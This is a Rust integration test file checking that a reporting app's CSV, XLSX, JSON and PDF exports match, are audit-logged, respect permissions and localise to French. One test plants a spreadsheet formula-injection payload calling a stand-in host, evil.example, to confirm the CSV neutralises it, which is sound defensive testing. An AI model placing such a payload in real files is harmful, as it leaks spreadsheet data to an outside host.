//! Cycle report exports: every format read back with a real reader shows the same figures as
//! the comparison; every export is stamped and recorded; delegations never export.

use std::collections::HashMap;
use std::io::Cursor;

use axum::http::{StatusCode, header};
use calamine::{Data, DataType, Reader, Xlsx, open_workbook_from_rs};
use serde_json::Value;
use uuid::Uuid;

use crate::reports::{
    cycle_row, gci_framework, gci_rows, pillars, store_framework, submission, write_cycle,
};
use crate::support::{TestApp, body_bytes, body_json};
use pledge::demo::bulk::FrameworkParts;
use pledge::export::Format;

pub(crate) async fn gci_cycle(app: &TestApp) -> Uuid {
    let framework = gci_framework();
    let stored = store_framework(app, &framework).await;
    let mut submissions = Vec::new();
    for (code, _, values) in gci_rows() {
        submissions.push(submission(app, &code, pillars(&values)).await);
    }
    write_cycle(
        app,
        &FrameworkParts::new(&framework, &stored),
        &cycle_row(stored.id, "GCI-2020", time::macros::date!(2020 - 01 - 01)),
        &submissions,
    )
    .await
}

#[tokio::test]
async fn every_format_carries_the_comparisons_figures_and_is_recorded() {
    let app = TestApp::spawn().await;
    let cycle = gci_cycle(&app).await;
    let analyst = app.user("analyst", None).await;
    let report = body_json(
        app.request(analyst.get(&format!("/api/v1/cycles/{cycle}/report")))
            .await,
    )
    .await;
    // participant → (overall score, rank, snapshot digest), as the pages and API show them.
    let expected: HashMap<String, (Option<f64>, Option<u64>, String)> = report["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["participant_code"].as_str().unwrap().to_owned(),
                (
                    r["overall"]["score"].as_f64(),
                    r["rank"].as_u64(),
                    r["snapshot"]["digest"].as_str().unwrap().to_owned(),
                ),
            )
        })
        .collect();
    assert_eq!(expected.len(), 32);

    // CSV, through the API.
    let response = app
        .request(analyst.api(
            "POST",
            &format!("/api/v1/cycles/{cycle}/export?format=csv"),
            None,
        ))
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    assert!(
        response.headers()[header::CONTENT_TYPE]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    assert!(
        response.headers()[header::CONTENT_DISPOSITION]
            .to_str()
            .unwrap()
            .contains("pledge-GCI-2020-report.csv")
    );
    let csv_bytes = body_bytes(response).await;
    assert!(
        csv_bytes.starts_with(b"\xEF\xBB\xBF"),
        "a UTF-8 byte-order mark for spreadsheets"
    );
    let mut reader = csv::Reader::from_reader(&csv_bytes[3..]);
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 32 * 5, "one row per participant × goal");
    for record in &records {
        let code = &record[column("participant_code")];
        let (overall, rank, digest) = &expected[code];
        assert_eq!(
            record[column("overall_score")].parse::<f64>().ok(),
            *overall,
            "{code}"
        );
        assert_eq!(record[column("rank")].parse::<u64>().ok(), *rank, "{code}");
        assert_eq!(&record[column("snapshot_digest")], digest);
        assert_eq!(&record[column("cycle_code")], "GCI-2020");
        assert!(!record[column("generated_at")].is_empty());
    }
    let svk_missing = records
        .iter()
        .filter(|r| {
            &r[column("participant_code")] == "SVK" && &r[column("answer_state")] == "missing"
        })
        .count();
    assert_eq!(svk_missing, 2, "SVK lacks two pillars");

    // XLSX, through the page's form.
    let response = app
        .request(analyst.post_form(&format!("/cycles/{cycle}/export"), "format=xlsx"))
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    let mut workbook: Xlsx<_> =
        open_workbook_from_rs(Cursor::new(body_bytes(response).await)).unwrap();
    assert_eq!(
        workbook.sheet_names(),
        [
            "Summary",
            "LEGAL",
            "TECHNICAL",
            "ORGANIZATIONAL",
            "CAPACITY_DEVELOPMENT",
            "COOPERATION",
            "Answers",
            "About"
        ]
        .map(str::to_owned)
    );
    let summary = workbook.worksheet_range("Summary").unwrap();
    let header: Vec<String> = summary
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(
        &header[..7],
        [
            "Rank",
            "Code",
            "Participant",
            "State",
            "Overall",
            "Complete",
            "Completion"
        ]
    );
    let mut seen = 0;
    for row in summary.rows().skip(1) {
        let code = row[1].to_string();
        let (overall, rank, _) = &expected[&code];
        assert_eq!(
            row[4].get_float(),
            *overall,
            "{code}: a number cell with the same figure"
        );
        assert_eq!(row[0].get_float().map(|r| r as u64), *rank, "{code}");
        seen += 1;
    }
    assert_eq!(seen, 32);
    let answers = workbook.worksheet_range("Answers").unwrap();
    assert_eq!(answers.rows().count(), 1 + 32 * 5);
    let about = workbook.worksheet_range("About").unwrap();
    let about_text: Vec<String> = about.cells().map(|(_, _, c)| c.to_string()).collect();
    assert!(about_text.iter().any(|t| t == "GCI-2020"));
    for (_, _, digest) in expected.values() {
        assert!(
            about_text.contains(digest),
            "the About sheet lists every snapshot digest"
        );
    }
    assert!(
        matches!(answers.get((1, 12)), Some(Data::Float(_))),
        "goal scores are numbers"
    );

    // JSON, through the API.
    let document = body_json(
        app.request(analyst.api(
            "POST",
            &format!("/api/v1/cycles/{cycle}/export?format=json"),
            None,
        ))
        .await,
    )
    .await;
    assert_eq!(document["format"], "pledge-cycle-report/1");
    assert_eq!(
        document["report"]["rows"], report["items"],
        "the same rows as the API (one page of 50 holds these 32)"
    );
    assert_eq!(document["stamp"]["snapshots"].as_array().unwrap().len(), 32);
    let dictionary: Vec<&str> = document["data_dictionary"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["field"].as_str().unwrap())
        .collect();
    for field in document["rows"][0].as_object().unwrap().keys() {
        assert!(
            dictionary.contains(&format!("rows[].{field}").as_str()),
            "{field} is described"
        );
    }

    // PDF: real, searchable text, read back with a PDF reader.
    let response = app
        .request(analyst.api(
            "POST",
            &format!("/api/v1/cycles/{cycle}/export?format=pdf"),
            None,
        ))
        .await;
    assert_eq!(response.headers()[header::CONTENT_TYPE], "application/pdf");
    let pdf = lopdf::Document::load_mem(&body_bytes(response).await).unwrap();
    let pages: Vec<u32> = pdf.get_pages().keys().copied().collect();
    assert!(
        pages.len() >= 3 + 32,
        "cover, method, summary and a page per participant"
    );
    let text = |page: u32| pdf.extract_text(&[page]).unwrap();
    let cover = text(pages[0]);
    assert!(
        cover.contains("Cycle report GCI-2020")
            && cover.contains(document["stamp"]["fingerprint"].as_str().unwrap())
    );
    assert!(text(pages[1]).contains("How scores are computed"));
    // The whole method takes more than a page: the summary follows it.
    let summary = pages
        .iter()
        .map(|p| text(*p))
        .find(|t| t.contains("Summary"))
        .unwrap();
    assert!(summary.contains("Summary") && summary.contains("USA") && summary.contains("100.00"));
    let all: String = pages.iter().map(|p| text(*p)).collect();
    for (code, (overall, _, digest)) in &expected {
        assert!(
            all.contains(digest.as_str()),
            "{code}'s page names its snapshot"
        );
        if let Some(score) = overall {
            assert!(
                all.contains(&format!("{score:.2}")),
                "{code}'s overall figure"
            );
        }
    }
    assert!(all.contains("SVK") && all.contains("incomplete"));

    // Each export is in the audit log, with the fingerprint of its snapshots.
    let fingerprint = document["stamp"]["fingerprint"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(
        app.count("SELECT count(*) FROM audit_log WHERE action = 'cycle.export'")
            .await,
        4
    );
    assert_eq!(
        app.count(&format!(
            "SELECT count(*) FROM audit_log WHERE action = 'cycle.export'
               AND details->>'snapshots_fingerprint' = '{fingerprint}'"
        ))
        .await,
        4,
        "the same snapshots each time"
    );
}

#[tokio::test]
async fn delegations_never_export_and_a_bad_format_is_named() {
    let app = TestApp::spawn().await;
    let cycle = gci_cycle(&app).await;
    let head = app.user("head", Some("FRA")).await;
    let refused = app
        .request(head.api(
            "POST",
            &format!("/api/v1/cycles/{cycle}/export?format=csv"),
            None,
        ))
        .await;
    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
    let refused = app
        .request(head.post_form(&format!("/cycles/{cycle}/export"), "format=csv"))
        .await;
    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
    let admin = app.user("admin", None).await;
    // An export writes the audit log: with a session cookie it needs the CSRF header, so a
    // link from another site cannot make one in an analyst's name.
    let mut without_token = admin.api(
        "POST",
        &format!("/api/v1/cycles/{cycle}/export?format=csv"),
        None,
    );
    without_token.headers_mut().remove("x-csrf-token");
    assert_eq!(
        app.request(without_token).await.status(),
        StatusCode::FORBIDDEN
    );
    let by_get = app
        .request(admin.get(&format!("/api/v1/cycles/{cycle}/export?format=csv")))
        .await;
    assert_eq!(by_get.status(), StatusCode::METHOD_NOT_ALLOWED);
    let bad = app
        .request(admin.api(
            "POST",
            &format!("/api/v1/cycles/{cycle}/export?format=pdfx"),
            None,
        ))
        .await;
    assert_eq!(bad.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: Value = body_json(bad).await;
    assert_eq!(
        body["error"]["fields"]["format"],
        "Choose csv, xlsx, json or pdf."
    );
    assert_eq!(
        app.count("SELECT count(*) FROM audit_log WHERE action = 'cycle.export'")
            .await,
        0,
        "nothing exported, nothing recorded"
    );
}

#[tokio::test]
async fn a_delegation_downloads_its_own_progress_report_as_pdf_and_no_other() {
    let app = TestApp::spawn().await;
    let cycle = gci_cycle(&app).await;
    let fra = crate::reports::assessment_of(&app, cycle, "FRA").await;
    let viewer = app.user("viewer", Some("FRA")).await;
    let response = app
        .request(viewer.api(
            "POST",
            &format!("/api/v1/assessments/{fra}/report/pdf"),
            None,
        ))
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    assert!(
        response.headers()[header::CONTENT_DISPOSITION]
            .to_str()
            .unwrap()
            .contains("pledge-FRA-GCI-2020-progress.pdf")
    );
    let pdf = lopdf::Document::load_mem(&body_bytes(response).await).unwrap();
    let pages: Vec<u32> = pdf.get_pages().keys().copied().collect();
    let text: String = pages
        .iter()
        .map(|p| pdf.extract_text(&[*p]).unwrap())
        .collect();
    assert!(text.contains("France — progress report"), "{text}");
    assert!(
        text.contains("97.60"),
        "FRA's overall figure, as on the page"
    );
    assert!(text.contains("All: median (Q1–Q3)") && text.contains("cooperation"));
    for other in ["DEU", "Germany", "USA"] {
        assert!(!text.contains(other), "nothing names {other}");
    }
    assert_eq!(
        app.count("SELECT count(*) FROM audit_log WHERE action = 'assessment.report_export'")
            .await,
        1
    );

    // Another delegation's report does not exist for them; the page's form works the same way.
    let deu = app.user("head", Some("DEU")).await;
    let hidden = app
        .request(deu.api(
            "POST",
            &format!("/api/v1/assessments/{fra}/report/pdf"),
            None,
        ))
        .await;
    assert_eq!(hidden.status(), StatusCode::NOT_FOUND);
    let form = app
        .request(viewer.post_form(&format!("/assessments/{fra}/report/pdf"), ""))
        .await;
    assert_eq!(form.status(), StatusCode::OK);
    assert_eq!(form.headers()[header::CONTENT_TYPE], "application/pdf");
}

/// The CSV's records without the time of generation (which differs between two exports).
fn records_without_time(csv_bytes: &[u8]) -> Vec<Vec<String>> {
    assert!(csv_bytes.starts_with(b"\xEF\xBB\xBF"));
    let mut reader = csv::Reader::from_reader(&csv_bytes[3..]);
    let headers = reader.headers().unwrap().clone();
    let time = headers.iter().position(|h| h == "generated_at").unwrap();
    reader
        .records()
        .map(|record| {
            let record = record.unwrap();
            record
                .iter()
                .enumerate()
                .filter(|(i, _)| *i != time)
                .map(|(_, field)| field.to_owned())
                .collect()
        })
        .collect()
}

#[tokio::test]
async fn streamed_files_are_the_same_across_chunks_and_from_the_command_line() {
    use futures_util::StreamExt;
    let app = TestApp::spawn().await;
    let cycle = gci_cycle(&app).await;
    let analyst = app.user("analyst", None).await;
    let response = app
        .request(analyst.api(
            "POST",
            &format!("/api/v1/cycles/{cycle}/export?format=csv"),
            None,
        ))
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    let whole = records_without_time(&body_bytes(response).await);
    assert_eq!(whole.len(), 32 * 5);

    // Chunks of 7 participants: 5 chunk boundaries, none losing or repeating a row.
    let pool = app.db.app_pool().await;
    let chunked = |format: Format| {
        let pool = pool.clone();
        async move {
            let export = pledge::services::exports::cycle_report_streamed(
                &pool,
                pledge::auth::Operator::Cli,
                cycle,
                format,
                pledge::presentation::i18n::Lang::En,
                &Default::default(),
            )
            .await
            .unwrap()
            .chunk_participants(7);
            export
                .into_chunks()
                .map(Result::unwrap)
                .collect::<Vec<Vec<u8>>>()
                .await
        }
    };
    let chunks = chunked(Format::Csv).await;
    assert_eq!(
        chunks.len(),
        1 + 5,
        "the header, then 32 participants in chunks of 7"
    );
    assert_eq!(records_without_time(&chunks.concat()), whole);

    // JSON the same way: one document, the same rows as the API's whole JSON.
    let chunks = chunked(Format::Json).await;
    assert_eq!(
        chunks.len(),
        1 + 5 + 1,
        "the head, five chunks of rows, the closing"
    );
    let streamed: Value = serde_json::from_slice(&chunks.concat()).unwrap();
    let response = app
        .request(analyst.api(
            "POST",
            &format!("/api/v1/cycles/{cycle}/export?format=json"),
            None,
        ))
        .await;
    let api: Value = serde_json::from_slice(&body_bytes(response).await).unwrap();
    assert_eq!(streamed["rows"].as_array().unwrap().len(), 32 * 5);
    assert_eq!(streamed["rows"], api["rows"]);
    assert_eq!(streamed["report"], api["report"]);
    assert_eq!(streamed["data_dictionary"], api["data_dictionary"]);

    // The binary writes the same file, and an XLSX that calamine opens.
    let Some((owner_url, app_url)) = app.db.urls_for_binary() else {
        return; // runs on the private test cluster only
    };
    let dir = tempfile::tempdir().unwrap();
    let export = |format: &str| {
        let path = dir.path().join(format!("report.{format}"));
        let output = std::process::Command::new(env!("CARGO_BIN_EXE_pledge"))
            .args([
                "cycle", "export", "GCI-2020", "--format", format, "--output",
            ])
            .arg(&path)
            .env("DATABASE_URL", &owner_url)
            .env("PLEDGE_APP_DATABASE_URL", &app_url)
            .output()
            .unwrap();
        assert!(
            output.status.success(),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        std::fs::read(path).unwrap()
    };
    assert_eq!(records_without_time(&export("csv")), whole);
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(export("xlsx"))).unwrap();
    assert_eq!(
        workbook.worksheet_range("Summary").unwrap().height(),
        1 + 32
    );
    // A failed export leaves an earlier file of the same name as it was.
    let earlier = dir.path().join("earlier.csv");
    std::fs::write(&earlier, "the earlier report").unwrap();
    let missing = std::process::Command::new(env!("CARGO_BIN_EXE_pledge"))
        .args(["cycle", "export", "1999", "--format", "csv", "--output"])
        .arg(&earlier)
        .env("DATABASE_URL", &owner_url)
        .env("PLEDGE_APP_DATABASE_URL", &app_url)
        .output()
        .unwrap();
    assert!(!missing.status.success());
    assert!(String::from_utf8_lossy(&missing.stderr).contains("no cycle has the code or id"));
    assert_eq!(
        std::fs::read_to_string(&earlier).unwrap(),
        "the earlier report"
    );
    assert_eq!(
        std::fs::read_dir(dir.path()).unwrap().count(),
        3,
        "no temporary file left"
    );
    assert_eq!(
        app.count(
            "SELECT count(*) FROM audit_log WHERE action = 'cycle.export' AND actor_label = 'cli'"
        )
        .await,
        4,
        "the two chunked exports above and the two files, each recorded"
    );
}

/// A CSV's header and its records without the last column (the time of generation).
fn csv_parts(csv_bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    assert!(csv_bytes.starts_with(b"\xEF\xBB\xBF"));
    let mut reader = csv::Reader::from_reader(&csv_bytes[3..]);
    let header = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let records = reader
        .records()
        .map(|record| {
            let record = record.unwrap();
            let mut fields: Vec<String> = record.iter().map(str::to_owned).collect();
            fields.pop();
            fields
        })
        .collect();
    (header, records)
}

/// Every cell of a sheet that holds a number.
fn numbers(range: &calamine::Range<Data>) -> Vec<(usize, usize, f64)> {
    range
        .cells()
        .filter_map(|(r, c, cell)| cell.get_float().map(|v| (r, c, v)))
        .collect()
}

#[tokio::test]
async fn a_french_export_speaks_french_with_the_same_figures() {
    let app = TestApp::spawn().await;
    let cycle = gci_cycle(&app).await;
    let analyst = app.user("analyst", None).await;
    let in_french = |mut request: axum::http::Request<axum::body::Body>| {
        request
            .headers_mut()
            .insert("accept-language", "fr-FR,fr;q=0.9".parse().unwrap());
        request
    };
    let export = |format: &str, lang: &str| {
        analyst.api(
            "POST",
            &format!("/api/v1/cycles/{cycle}/export?format={format}&lang={lang}"),
            None,
        )
    };

    // CSV from the page, in the page's language (Accept-Language): French column titles, the
    // same records as the English file.
    let french = app
        .request(in_french(
            analyst.post_form(&format!("/cycles/{cycle}/export"), "format=csv"),
        ))
        .await;
    assert_eq!(french.status(), StatusCode::OK);
    let (header, french_records) = csv_parts(&body_bytes(french).await);
    assert_eq!(
        &header[..4],
        [
            "code_cycle",
            "code_participant",
            "nom_participant",
            "etat_evaluation"
        ]
    );
    assert!(header.contains(&"score_global".to_owned()) && header.contains(&"rang".to_owned()));
    assert_eq!(header.last().unwrap(), "genere_le");
    let english = app.request(export("csv", "en")).await;
    let (english_header, english_records) = csv_parts(&body_bytes(english).await);
    assert_eq!(english_header[0], "cycle_code");
    assert_eq!(french_records.len(), 32 * 5);
    assert_eq!(
        french_records, english_records,
        "the same figures, decimal points and codes"
    );

    // XLSX through the API with ?lang=fr: French sheet names and headings, the same numbers.
    let open = |bytes: Vec<u8>| -> Xlsx<_> { open_workbook_from_rs(Cursor::new(bytes)).unwrap() };
    let mut french = open(body_bytes(app.request(export("xlsx", "fr")).await).await);
    let mut english = open(body_bytes(app.request(export("xlsx", "en")).await).await);
    let names = french.sheet_names();
    assert_eq!(names[0], "Synthèse");
    assert_eq!(&names[names.len() - 2..], ["Réponses", "À propos"]);
    let summary = french.worksheet_range("Synthèse").unwrap();
    let heading: Vec<String> = summary
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(
        &heading[..7],
        [
            "Rang",
            "Code",
            "Participant",
            "État",
            "Global",
            "Complet",
            "Taux de réponse"
        ]
    );
    let about: Vec<String> = french
        .worksheet_range("À propos")
        .unwrap()
        .cells()
        .map(|(_, _, c)| c.to_string())
        .collect();
    assert!(about.iter().any(|t| t == "Version du référentiel"));
    assert!(about.iter().any(|t| t.starts_with("Code ISO 3166-1")));
    for (french_sheet, english_sheet) in [("Synthèse", "Summary"), ("Réponses", "Answers")] {
        let figures = numbers(&french.worksheet_range(french_sheet).unwrap());
        assert!(figures.len() > 32, "{french_sheet} holds number cells");
        assert_eq!(
            figures,
            numbers(&english.worksheet_range(english_sheet).unwrap()),
            "{french_sheet}: the same numbers in the same cells"
        );
    }

    // JSON: the keys stay, the data dictionary is in French, the figures are the same.
    let french = body_json(app.request(export("json", "fr")).await).await;
    let english = body_json(app.request(export("json", "en")).await).await;
    assert_eq!(french["lang"], "fr");
    assert_eq!(french["report"], english["report"]);
    assert_eq!(french["rows"], english["rows"]);
    assert_eq!(
        french["stamp"]["fingerprint"],
        english["stamp"]["fingerprint"]
    );
    let meaning = |document: &Value, field: &str| {
        document["data_dictionary"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["field"] == field)
            .unwrap()["meaning"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    assert!(meaning(&french, "rows[].rank").starts_with("Rang dense"));
    assert!(meaning(&english, "rows[].rank").starts_with("Dense rank"));

    // PDF: French words, the same fingerprint and figures written the French way.
    let response = app.request(export("pdf", "fr")).await;
    assert_eq!(response.status(), StatusCode::OK);
    let pdf = lopdf::Document::load_mem(&body_bytes(response).await).unwrap();
    let pages: Vec<u32> = pdf.get_pages().keys().copied().collect();
    let text = |page: u32| pdf.extract_text(&[page]).unwrap();
    let cover = text(pages[0]);
    assert!(cover.contains("Rapport du cycle GCI-2020"), "{cover}");
    assert!(cover.contains("Empreinte des instantanés"), "{cover}");
    assert!(cover.contains(french["stamp"]["fingerprint"].as_str().unwrap()));
    assert!(text(pages[1]).contains("Calcul des notes"));
    let all: String = pages.iter().map(|p| text(*p)).collect();
    assert!(all.contains("Synthèse") && all.contains("Indicateur"));
    assert!(!all.contains("Summary") && !all.contains("Cycle report"));
    for row in english["report"]["rows"].as_array().unwrap() {
        assert!(all.contains(row["snapshot"]["digest"].as_str().unwrap()));
        if let Some(score) = row["overall"]["score"].as_f64() {
            let french_figure = format!("{score:.2}").replace('.', ",");
            assert!(all.contains(&french_figure), "{french_figure}");
        }
    }

    // The progress report PDF in the page's language.
    let fra = crate::reports::assessment_of(&app, cycle, "FRA").await;
    let viewer = app.user("viewer", Some("FRA")).await;
    let response = app
        .request(in_french(
            viewer.post_form(&format!("/assessments/{fra}/report/pdf"), ""),
        ))
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    let pdf = lopdf::Document::load_mem(&body_bytes(response).await).unwrap();
    let text: String = pdf
        .get_pages()
        .keys()
        .map(|p| pdf.extract_text(&[*p]).unwrap())
        .collect();
    assert!(text.contains("rapport de progression"), "{text}");
    assert!(
        text.contains("97,60"),
        "FRA's overall figure, the French way"
    );
    assert!(text.contains("Tous : médiane (Q1–Q3)"), "{text}");

    // An unknown language is named.
    let refused = app.request(export("csv", "de")).await;
    assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        body_json(refused).await["error"]["fields"]["lang"],
        "Choose English or French."
    );

    // The command line takes --lang.
    let Some((owner_url, app_url)) = app.db.urls_for_binary() else {
        return; // runs on the private test cluster only
    };
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_pledge"))
        .args([
            "cycle", "export", "GCI-2020", "--format", "csv", "--lang", "fr",
        ])
        .env("DATABASE_URL", &owner_url)
        .env("PLEDGE_APP_DATABASE_URL", &app_url)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let (header, records) = csv_parts(&output.stdout);
    assert_eq!(header[0], "code_cycle");
    assert_eq!(records, english_records);
}

#[tokio::test]
async fn a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text_in_the_csv() {
    let app = TestApp::spawn().await;
    let cycle = gci_cycle(&app).await;
    let hostile = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
    let mut owner = app.db.owner().await;
    let renamed =
        sqlx::query("UPDATE participants SET name_en = $1, name_fr = $1 WHERE code = 'EST'")
            .bind(hostile)
            .execute(&mut owner)
            .await
            .unwrap();
    assert_eq!(renamed.rows_affected(), 1);
    let analyst = app.user("analyst", None).await;
    let csv_bytes = body_bytes(
        app.request(analyst.api(
            "POST",
            &format!("/api/v1/cycles/{cycle}/export?format=csv"),
            None,
        ))
        .await,
    )
    .await;
    let (_, records) = csv_parts(&csv_bytes);
    let quoted = format!("'{hostile}");
    assert!(
        records.iter().any(|fields| fields.contains(&quoted)),
        "the name is written, behind an apostrophe"
    );
    for fields in &records {
        for cell in fields {
            let evaluated = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(
                !evaluated || cell.parse::<f64>().is_ok(),
                "a cell a spreadsheet would evaluate: {cell:?}"
            );
        }
    }
}

#[tokio::test]
async fn every_export_is_stamped_with_the_audit_logs_newest_entry() {
    let app = TestApp::spawn().await;
    let cycle = gci_cycle(&app).await;
    let analyst = app.user("analyst", None).await;
    let export = || async {
        body_json(
            app.request(analyst.api(
                "POST",
                &format!("/api/v1/cycles/{cycle}/export?format=json"),
                None,
            ))
            .await,
        )
        .await
    };
    export().await;
    let head: String = {
        let mut owner = app.db.owner().await;
        sqlx::query_scalar(
            "SELECT encode(entry_hash, 'hex') FROM audit_log ORDER BY seq DESC LIMIT 1",
        )
        .fetch_one(&mut owner)
        .await
        .unwrap()
    };
    let second = export().await;
    assert_eq!(
        second["stamp"]["audit_head"], head,
        "the head when the file was made: the first export's entry"
    );
}

/// Every sheet of a workbook, by name, as rows of cells.
fn sheets(bytes: Vec<u8>) -> Vec<(String, Vec<Vec<Data>>)> {
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    workbook
        .sheet_names()
        .into_iter()
        .map(|name| {
            let range = workbook.worksheet_range(&name).unwrap();
            let rows = range.rows().map(<[Data]>::to_vec).collect();
            (name, rows)
        })
        .collect()
}

/// The time of generation of the newest export.
async fn last_generated_at(app: &TestApp) -> String {
    let mut owner = app.db.owner().await;
    let mut tx = sqlx::Connection::begin(&mut owner).await.unwrap();
    pledge::storage::set_scope(&mut tx, &pledge::storage::Scope::System)
        .await
        .unwrap();
    let generated_at: String = sqlx::query_scalar(
        "SELECT details->>'generated_at' FROM audit_log WHERE action = 'cycle.export'
         ORDER BY seq DESC LIMIT 1",
    )
    .fetch_one(&mut *tx)
    .await
    .unwrap();
    tx.commit().await.unwrap();
    generated_at
}

#[tokio::test]
async fn xlsx_and_pdf_written_from_chunks_of_participants_are_the_files_built_whole() {
    let app = TestApp::spawn().await;
    let cycle = gci_cycle(&app).await;
    let pool = app.db.app_pool().await;
    // A file built with chunks of `chunk` participants (usize::MAX: every row at once), and
    // its time of generation; the cache is emptied so that the next one is built again.
    let build = |format: Format, chunk: usize| {
        let (pool, app) = (pool.clone(), &app);
        async move {
            let file = pledge::services::exports::cycle_report_in_chunks(
                &pool,
                pledge::auth::Operator::Cli,
                cycle,
                format,
                pledge::presentation::i18n::Lang::En,
                &Default::default(),
                chunk,
            )
            .await
            .unwrap();
            let generated_at = last_generated_at(app).await;
            let mut owner = app.db.owner().await;
            let mut tx = sqlx::Connection::begin(&mut owner).await.unwrap();
            pledge::storage::set_scope(&mut tx, &pledge::storage::Scope::System)
                .await
                .unwrap();
            sqlx::query("UPDATE report_cache SET cache_key = 'stale' WHERE kind LIKE 'export:%'")
                .execute(&mut *tx)
                .await
                .unwrap();
            tx.commit().await.unwrap();
            (file.bytes, generated_at)
        }
    };

    // XLSX: chunks of 7 participants (32 in 5 chunks) give the same cells on every sheet;
    // only the time of generation and the audit log's newest entry (About) differ.
    let (whole, whole_time) = build(Format::Xlsx, usize::MAX).await;
    let (chunked, chunked_time) = build(Format::Xlsx, 7).await;
    assert_ne!(
        whole_time, chunked_time,
        "built twice, not served from the cache"
    );
    let (whole, chunked) = (sheets(whole), sheets(chunked));
    let names: Vec<&str> = whole.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names.first(), Some(&"Summary"), "{names:?}");
    assert!(names.ends_with(&["Answers", "About"]), "{names:?}");
    assert!(names.len() > 3, "a sheet per section: {names:?}");
    assert_eq!(whole.len(), chunked.len());
    for ((name, whole_rows), (chunked_name, chunked_rows)) in whole.iter().zip(&chunked) {
        assert_eq!(name, chunked_name);
        assert_eq!(whole_rows.len(), chunked_rows.len(), "{name}");
        for (index, (a, b)) in whole_rows.iter().zip(chunked_rows).enumerate() {
            if name == "About" && (index == 2 || index == 3) {
                assert_eq!(a[0], b[0], "the time of generation and the audit head");
                continue;
            }
            assert_eq!(a, b, "{name} row {index}");
        }
    }
    let answers = &chunked
        .iter()
        .find(|(name, _)| name == "Answers")
        .unwrap()
        .1;
    assert_eq!(answers.len(), 1 + 32 * 5, "every participant × goal once");
    let section = &chunked[1].1;
    assert_eq!(
        section.len(),
        1 + 32,
        "a row per participant on each section's sheet"
    );
    assert!(
        section[1..]
            .iter()
            .any(|row| row.len() > 4 && row[4].get_float().is_some()),
        "the participants' goal scores are on their rows"
    );

    // PDF: the same pages with the same text, but for the time of generation.
    let (whole, whole_time) = build(Format::Pdf, usize::MAX).await;
    let (chunked, chunked_time) = build(Format::Pdf, 7).await;
    assert_ne!(
        whole_time, chunked_time,
        "built twice, not served from the cache"
    );
    let timeless = |bytes: &[u8], time: &str| -> Vec<String> {
        crate::pdf::pages_text(bytes)
            .into_iter()
            .map(|page| page.replace(time, "<time>"))
            .collect()
    };
    let (whole, chunked) = (
        timeless(&whole, &whole_time),
        timeless(&chunked, &chunked_time),
    );
    assert!(whole.len() > 32, "a page or more per participant");
    assert_eq!(whole, chunked);
    for (code, _, _) in gci_rows() {
        assert!(
            chunked.iter().any(|page| page.contains(&code)),
            "{code} has its page"
        );
    }
}
